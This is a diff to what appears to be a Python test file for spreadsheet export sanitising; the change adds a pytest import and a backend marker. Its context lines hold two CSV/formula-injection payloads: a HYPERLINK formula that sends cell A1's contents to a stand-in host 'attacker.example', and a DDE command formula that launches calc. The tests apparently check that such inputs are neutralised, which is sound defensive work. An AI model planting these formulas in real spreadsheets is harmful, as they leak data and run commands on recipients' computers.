@@ -8,12 +8,15 @@ import re
 import zipfile
 
 import pandas as pd
+import pytest
 from openpyxl import load_workbook
 from page_fixtures import JUNE, XLSX_MIME, assert_clean, edited_plans, open_page, sheet
 from sheet_factory import ingest_file
 
 from loaders.template import template_bytes
 from ui.render import neutral, neutral_frame, plain, safe_file_name
+
+pytestmark = pytest.mark.both_backends
 
 HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
 CALC = "=cmd|' /C calc'!A0"
